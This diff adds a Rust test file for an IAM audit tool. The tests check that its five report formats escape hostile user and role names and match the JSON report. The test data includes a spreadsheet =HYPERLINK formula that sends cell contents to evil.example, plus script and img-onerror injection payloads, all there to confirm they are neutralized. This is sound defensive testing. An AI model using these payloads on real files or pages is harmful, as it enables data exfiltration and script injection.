@@ -1,0 +1,584 @@
+//! Every report format on the same fixtures: each sample snapshot in
+//! `snapshots/` and `tests/fixtures/hostile-names/` (names that start with
+//! formula characters, hold pipes, `<script>`, quotes, commas, line breaks,
+//! Markdown syntax and non-ASCII text). Each output is compared with its
+//! committed insta snapshot, parsed back with the format's standard parser
+//! and checked against the JSON report's counts; SARIF is validated against
+//! the OASIS schema; the HTML page is opened in headless Chromium.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use common::*;
+use serde_json::Value;
+
+const FIXTURES: &[(&str, &str)] = &[
+    ("demo", "snapshots/demo"),
+    ("compliant", "snapshots/compliant"),
+    ("org", "snapshots/org"),
+    ("hostile", "tests/fixtures/hostile-names"),
+];
+
+const FORMATS: &[&str] = &["csv", "markdown", "sarif", "junit", "html"];
+
+fn render(path: &str, format: &str) -> String {
+    let out = run(&["evaluate", path, "--format", format]);
+    assert!(
+        matches!(out.status.code(), Some(0 | 1)),
+        "`{format}` of `{path}` failed: {}",
+        stderr(&out)
+    );
+    stdout(&out)
+}
+
+fn json(path: &str) -> Value {
+    json_report(&[path]).1
+}
+
+#[test]
+fn every_format_of_every_fixture_matches_its_snapshot() {
+    for (name, path) in FIXTURES {
+        for format in FORMATS {
+            let text = render(path, format);
+            assert_eq!(text, render(path, format), "{format} is not deterministic");
+            insta::assert_snapshot!(format!("{format}_{name}"), text);
+        }
+    }
+}
+
+#[test]
+fn a_file_given_with_output_holds_the_same_bytes_as_stdout() {
+    let tmp = tempfile::tempdir().unwrap();
+    for format in FORMATS {
+        let file = tmp.path().join(format!("report.{format}"));
+        let out = run(&[
+            "evaluate",
+            "snapshots/demo",
+            "--format",
+            format,
+            "-o",
+            file.to_str().unwrap(),
+        ]);
+        assert_eq!(out.status.code(), Some(1));
+        assert_eq!(
+            std::fs::read_to_string(&file).unwrap(),
+            render("snapshots/demo", format)
+        );
+    }
+}
+
+// ---------------------------------------------------------------- CSV
+
+#[test]
+fn csv_parses_back_one_row_per_result_with_no_formula_cell() {
+    let formula = ['=', '+', '-', '@', '\t', '\r'];
+    for (_, path) in FIXTURES {
+        let report = json(path);
+        let text = render(path, "csv");
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(text.as_bytes());
+        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+        assert_eq!(header, iam_audit::report::csv::COLUMNS);
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        let results = report["results"].as_array().unwrap();
+        assert_eq!(rows.len(), results.len(), "{path}");
+        for (row, result) in rows.iter().zip(results) {
+            assert_eq!(row.len(), header.len());
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(formula),
+                    "{path}: cell `{cell}` starts with a formula character"
+                );
+            }
+            // Undoing the documented neutralization gives the data back.
+            let undo = |cell: &str| match cell.strip_prefix('\'') {
+                Some(rest) if rest.starts_with(formula) => rest.to_string(),
+                _ => cell.to_string(),
+            };
+            assert_eq!(undo(&row[5]), result["subject"].as_str().unwrap());
+            assert_eq!(undo(&row[6]), result["principal"].as_str().unwrap());
+            assert_eq!(undo(&row[9]), result["message"].as_str().unwrap());
+            assert_eq!(&row[4], result["status"].as_str().unwrap());
+            assert_eq!(undo(&row[15]), result["id"].as_str().unwrap());
+        }
+    }
+}
+
+#[test]
+fn csv_neutralizes_a_hostile_sid_in_a_message_and_keeps_commas_and_quotes() {
+    let text = render("tests/fixtures/hostile-names", "csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let subjects: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[5].to_string())
+        .collect();
+    assert!(subjects.contains(&"arn:aws:iam::123456789012:role/support-\"quoted\",comma".into()));
+    assert!(subjects.contains(&"arn:aws:iam::123456789012:user/multi\nline\r\nname".into()));
+    assert!(text.contains("\r\n"), "RFC 4180 line ends");
+    // Trust principals named like formulas: present, and neutralized.
+    let principals: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap()[6].to_string())
+        .collect();
+    for formula in ["'-1+2", "'=1+1", "'@SUM(1)"] {
+        assert!(principals.iter().any(|p| p == formula), "{formula}");
+    }
+}
+
+// ----------------------------------------------------------- Markdown
+
+/// Cells of a Markdown table row: split on pipes not escaped by a backslash.
+fn markdown_cells(row: &str) -> usize {
+    let mut cells: usize = 0;
+    let mut escaped = false;
+    for c in row.chars() {
+        match c {
+            '\\' if !escaped => escaped = true,
+            '|' if !escaped => cells += 1,
+            _ => escaped = false,
+        }
+    }
+    cells.saturating_sub(1)
+}
+
+#[test]
+fn markdown_tables_keep_their_shape_with_hostile_names() {
+    for (_, path) in FIXTURES {
+        let text = render(path, "markdown");
+        let mut columns: Option<usize> = None;
+        for line in text.lines() {
+            if !line.starts_with('|') {
+                columns = None;
+                continue;
+            }
+            let n = markdown_cells(line);
+            match columns {
+                None => columns = Some(n),
+                Some(expected) => assert_eq!(n, expected, "{path}: row breaks its table: {line}"),
+            }
+        }
+        // No raw HTML: every `<` is backslash-escaped.
+        for (i, _) in text.match_indices('<') {
+            assert!(
+                text[..i].ends_with('\\'),
+                "{path}: unescaped `<` at byte {i}"
+            );
+        }
+    }
+}
+
+#[test]
+fn markdown_lists_every_failing_subject_with_its_control() {
+    let text = render("tests/fixtures/hostile-names", "markdown");
+    let report = json("tests/fixtures/hostile-names");
+    let fails = subjects_with(&report, "fail");
+    let failing_rows = text.lines().filter(|l| l.starts_with("| fail |")).count();
+    assert_eq!(failing_rows, fails.values().map(|s| s.len()).sum::<usize>());
+    assert!(text.contains("user/pipe\\|name\\|x"));
+    assert!(text.contains("\\<script\\>document.title='pwned'\\</script\\>"));
+    assert!(text.contains("multi\\\\nline\\\\r\\\\nname"));
+    assert!(text.contains("## Scope") && text.contains("### Evidence"));
+    for e in report["evidence"].as_array().unwrap() {
+        assert!(text.contains(e["sha256"].as_str().unwrap()));
+    }
+}
+
+// -------------------------------------------------------------- SARIF
+
+fn sarif_validator() -> jsonschema::Validator {
+    let schema: Value = serde_json::from_str(
+        &std::fs::read_to_string(root().join("schemas/sarif-schema-2.1.0.json")).unwrap(),
+    )
+    .unwrap();
+    jsonschema::validator_for(&schema).expect("the SARIF schema compiles")
+}
+
+#[test]
+fn sarif_is_valid_against_the_oasis_schema() {
+    let validator = sarif_validator();
+    for (_, path) in FIXTURES {
+        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
+        let errors: Vec<String> = validator
+            .iter_errors(&log)
+            .map(|e| format!("{}: {e}", e.instance_path()))
+            .collect();
+        assert!(errors.is_empty(), "{path}:\n{}", errors.join("\n"));
+    }
+}
+
+#[test]
+fn the_sarif_schema_rejects_a_broken_log() {
+    // The validation above would be worthless if the schema accepted anything.
+    let validator = sarif_validator();
+    let mut log: Value = serde_json::from_str(&render("snapshots/demo", "sarif")).unwrap();
+    log["runs"][0]["results"][0]["level"] = "fatal".into();
+    assert!(!validator.is_valid(&log));
+    log["version"] = "2.0.0".into();
+    assert!(!validator.is_valid(&log));
+}
+
+#[test]
+fn sarif_has_a_rule_per_policy_and_a_result_per_failure_and_error() {
+    for (_, path) in FIXTURES {
+        let report = json(path);
+        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
+        let run = &log["runs"][0];
+        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
+        let policies = report["policies"].as_array().unwrap();
+        assert_eq!(rules.len(), policies.len());
+        for (rule, policy) in rules.iter().zip(policies) {
+            assert_eq!(rule["id"], policy["id"]);
+            let want = match policy["severity"].as_str().unwrap() {
+                "critical" | "high" => "error",
+                "medium" => "warning",
+                _ => "note",
+            };
+            assert_eq!(rule["defaultConfiguration"]["level"], want);
+            if let Some(fix) = policy.get("remediation") {
+                assert_eq!(&rule["help"]["text"], fix);
+            }
+        }
+        let results = run["results"].as_array().unwrap();
+        let summary = &report["summary"];
+        assert_eq!(
+            results.len() as u64,
+            summary["fail"].as_u64().unwrap()
+                + summary["error"].as_u64().unwrap()
+                + summary["waived"].as_u64().unwrap(),
+            "{path}"
+        );
+        for r in results {
+            let rule = &rules[r["ruleIndex"].as_u64().unwrap() as usize];
+            assert_eq!(r["ruleId"], rule["id"]);
+            if r["properties"]["status"] == "error" {
+                assert_eq!(r["level"], "error");
+            } else {
+                assert_eq!(r["level"], rule["defaultConfiguration"]["level"]);
+            }
+        }
+    }
+}
+
+#[test]
+fn sarif_locates_rows_lines_and_json_pointers() {
+    let report = json("tests/fixtures/hostile-names");
+    let log: Value =
+        serde_json::from_str(&render("tests/fixtures/hostile-names", "sarif")).unwrap();
+    let by_id: BTreeMap<&str, &Value> = report["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| (r["id"].as_str().unwrap(), r))
+        .collect();
+    let mut lines = 0;
+    let mut pointers = 0;
+    for r in log["runs"][0]["results"].as_array().unwrap() {
+        let id = r["partialFingerprints"]["iamAuditResultId/v1"]
+            .as_str()
+            .unwrap();
+        let json_result = by_id[id];
+        let location = &r["locations"][0];
+        let logical = location["logicalLocations"].as_array().unwrap();
+        assert_eq!(logical[0]["fullyQualifiedName"], json_result["subject"]);
+        let evidence = &json_result["location"];
+        if let Some(line) = evidence.get("line") {
+            assert_eq!(&location["physicalLocation"]["region"]["startLine"], line);
+            assert_eq!(
+                location["physicalLocation"]["artifactLocation"]["uri"],
+                "credential-report.csv"
+            );
+            lines += 1;
+        }
+        if let Some(pointer) = evidence.get("pointer") {
+            assert_eq!(&logical[1]["name"], pointer);
+            assert_eq!(logical[1]["kind"], "member");
+            pointers += 1;
+        }
+    }
+    assert_eq!(lines, 9, "every failing user row is located by its line");
+    assert_eq!(
+        pointers, 2,
+        "the trust statement and the broken trust policy"
+    );
+
+    // The user with a line break in its name: its row starts on line 11.
+    let multi =
+        &by_id["console-password-requires-mfa/arn:aws:iam::123456789012:user/multi\nline\r\nname"];
+    assert_eq!(multi["location"]["line"], 11);
+}
+
+#[test]
+fn sarif_for_an_envelope_points_at_content_and_for_an_org_prefixes_the_account_folder() {
+    let log: Value = serde_json::from_str(&render("snapshots/org", "sarif")).unwrap();
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    assert!(!results.is_empty());
+    for r in results {
+        let location = &r["locations"][0];
+        let uri = location["physicalLocation"]["artifactLocation"]["uri"]
+            .as_str()
+            .unwrap();
+        assert!(uri.starts_with("111111111111-prod/") || uri.starts_with("222222222222-dev/"));
+        if uri.ends_with("credential-report.json") {
+            assert!(location["physicalLocation"].get("region").is_none());
+            assert_eq!(location["logicalLocations"][1]["name"], "/Content");
+        }
+    }
+}
+
+// -------------------------------------------------------------- JUnit
+
+#[derive(Default, Debug, PartialEq)]
+struct JunitCounts {
+    suites: usize,
+    cases: usize,
+    failures: usize,
+    errors: usize,
+    skipped: usize,
+    names: Vec<String>,
+}
+
+fn parse_junit(text: &str) -> JunitCounts {
+    use quick_xml::events::Event;
+    let mut reader = quick_xml::Reader::from_str(text);
+    let mut counts = JunitCounts::default();
+    loop {
+        match reader.read_event().expect("well-formed XML") {
+            Event::Eof => break,
+            Event::Start(e) | Event::Empty(e) => match e.name().as_ref() {
+                b"testsuite" => counts.suites += 1,
+                b"testcase" => {
+                    counts.cases += 1;
+                    let name = e
+                        .try_get_attribute("name")
+                        .unwrap()
+                        .expect("a name")
+                        .normalized_value(quick_xml::XmlVersion::Explicit1_0)
+                        .expect("valid escapes")
+                        .into_owned();
+                    counts.names.push(name);
+                }
+                b"failure" => counts.failures += 1,
+                b"error" => counts.errors += 1,
+                b"skipped" => counts.skipped += 1,
+                _ => {}
+            },
+            Event::Text(t) => {
+                t.decode().expect("text decodes");
+            }
+            _ => {}
+        }
+    }
+    counts
+}
+
+#[test]
+fn junit_parses_back_and_its_counts_match_the_json_summary() {
+    for (_, path) in FIXTURES {
+        let report = json(path);
+        let text = render(path, "junit");
+        let counts = parse_junit(&text);
+        let s = &report["summary"];
+        let n = |k: &str| s[k].as_u64().unwrap() as usize;
+        assert_eq!(counts.suites, report["policies"].as_array().unwrap().len());
+        assert_eq!(counts.cases, n("total"), "{path}");
+        assert_eq!(counts.failures, n("fail"), "{path}");
+        assert_eq!(counts.errors, n("error"), "{path}");
+        assert_eq!(
+            counts.skipped,
+            n("not-evaluated") + n("not-applicable") + n("waived"),
+            "{path}"
+        );
+        let root_line = text.lines().nth(1).unwrap();
+        assert!(root_line.contains(&format!("tests=\"{}\"", n("total"))));
+        assert!(root_line.contains(&format!("failures=\"{}\"", n("fail"))));
+    }
+}
+
+#[test]
+fn junit_case_names_round_trip_through_the_xml_parser() {
+    let counts = parse_junit(&render("tests/fixtures/hostile-names", "junit"));
+    for name in [
+        "arn:aws:iam::123456789012:user/<script>document.title='pwned'</script>",
+        "arn:aws:iam::123456789012:user/quote\"d'name",
+        "arn:aws:iam::123456789012:user/=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        // Line breaks are shown as visible escapes, never raw in an attribute.
+        "arn:aws:iam::123456789012:user/multi\\nline\\r\\nname",
+    ] {
+        assert!(
+            counts.names.iter().any(|n| n == name),
+            "missing {name}: {:?}",
+            counts.names
+        );
+    }
+}
+
+// --------------------------------------------------------------- HTML
+
+fn html_count(html: &str, status: &str) -> u64 {
+    let marker = format!("id=\"count-{status}\">");
+    let start = html.find(&marker).expect("a count") + marker.len();
+    let end = start + html[start..].find('<').unwrap();
+    html[start..end].parse().unwrap()
+}
+
+#[test]
+fn html_is_self_contained_and_escapes_every_name() {
+    for (_, path) in FIXTURES {
+        let html = render(path, "html");
+        assert_eq!(
+            html.matches("<script").count(),
+            1,
+            "{path}: only our script"
+        );
+        for external in ["src=", "href=", "url(", "@import", "http://", "https://"] {
+            assert!(
+                !html.contains(external) || path.contains("hostile"),
+                "{path}: `{external}` would load something"
+            );
+        }
+        assert!(html.contains("Content-Security-Policy\" content=\"default-src 'none'"));
+    }
+    let html = render("tests/fixtures/hostile-names", "html");
+    assert!(html.contains("user/&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
+    assert!(html.contains("user/&lt;img src=x onerror=alert(1)&gt;"));
+    assert!(!html.contains("<img"));
+    assert!(!html.contains("<i>x</i>"));
+    // The only `http` in the page is inside escaped evidence text.
+    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"));
+}
+
+#[test]
+fn html_counts_match_the_json_summary() {
+    for (_, path) in FIXTURES {
+        let report = json(path);
+        let html = render(path, "html");
+        for status in [
+            "fail",
+            "error",
+            "not-evaluated",
+            "not-applicable",
+            "waived",
+            "pass",
+            "total",
+        ] {
+            assert_eq!(
+                html_count(&html, status),
+                report["summary"][status].as_u64().unwrap(),
+                "{path}: {status}"
+            );
+        }
+        let rows = html.matches("<tr class=\"result ").count() as u64;
+        assert_eq!(rows, report["summary"]["total"].as_u64().unwrap());
+    }
+}
+
+/// Headless Chromium, when installed (`.ci/run` installs it; under `CI` a
+/// missing browser fails the test instead of skipping it).
+fn chromium() -> Option<PathBuf> {
+    for candidate in ["/usr/bin/chromium", "/usr/bin/chromium-browser"] {
+        if Path::new(candidate).exists() {
+            return Some(PathBuf::from(candidate));
+        }
+    }
+    if std::env::var_os("CI").is_some() {
+        panic!("headless Chromium is required under CI: `apt-get install chromium` (.ci/run does)");
+    }
+    eprintln!(
+        "skipping: Chromium is not installed (`apt-get install chromium`); under CI this test runs"
+    );
+    None
+}
+
+/// The DOM after the page's script ran, as Chromium serializes it.
+fn dump_dom(browser: &Path, url: &str) -> String {
+    let profile = tempfile::tempdir().unwrap();
+    let out = std::process::Command::new(browser)
+        .args([
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--disable-dev-shm-usage",
+        ])
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .arg("--dump-dom")
+        .arg(url)
+        .output()
+        .expect("chromium runs");
+    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        dom.contains("</html>"),
+        "no DOM from chromium: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    dom
+}
+
+fn shown(dom: &str) -> u64 {
+    let marker = "data-shown=\"";
+    let start = dom.find(marker).expect("the shown counter") + marker.len();
+    let end = start + dom[start..].find('"').unwrap();
+    dom[start..end].parse().unwrap()
+}
+
+#[test]
+fn html_in_a_real_browser_shows_the_right_counts_and_runs_no_evidence() {
+    let Some(browser) = chromium() else { return };
+    let tmp = tempfile::tempdir().unwrap();
+    for (name, path) in FIXTURES {
+        let report = json(path);
+        let file = tmp.path().join(format!("{name}.html"));
+        std::fs::write(&file, render(path, "html")).unwrap();
+        let url = format!("file://{}", file.display());
+        let summary = &report["summary"];
+        let n = |k: &str| summary[k].as_u64().unwrap();
+
+        let dom = dump_dom(&browser, &url);
+        for status in [
+            "fail",
+            "error",
+            "not-evaluated",
+            "not-applicable",
+            "pass",
+            "total",
+        ] {
+            assert_eq!(html_count(&dom, status), n(status), "{name}: {status}");
+        }
+        // The script ran (it writes the counter) and shows every result.
+        assert!(dom.contains(&format!("{} of {} results shown", n("total"), n("total"))));
+        assert_eq!(shown(&dom), n("total"));
+        // Nothing from the evidence executed or became an element.
+        assert!(
+            dom.contains("<title>IAM audit report"),
+            "{name}: title changed"
+        );
+        assert_eq!(dom.matches("<script").count(), 1, "{name}");
+        assert!(!dom.contains("<img"), "{name}");
+
+        // Filters, set through the URL as a person would share them.
+        let failing = dump_dom(&browser, &format!("{url}#status=fail"));
+        assert_eq!(shown(&failing), n("fail"), "{name}: status filter");
+        let high_fail = dump_dom(
+            &browser,
+            &format!("{url}#status=fail&control=support-role-trust-requires-mfa"),
+        );
+        let expected = failing_count(&report, "support-role-trust-requires-mfa");
+        assert_eq!(shown(&high_fail), expected, "{name}: control filter");
+    }
+}
+
+fn failing_count(report: &Value, policy: &str) -> u64 {
+    report["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["policy"] == policy && r["status"] == "fail")
+        .count() as u64
+}
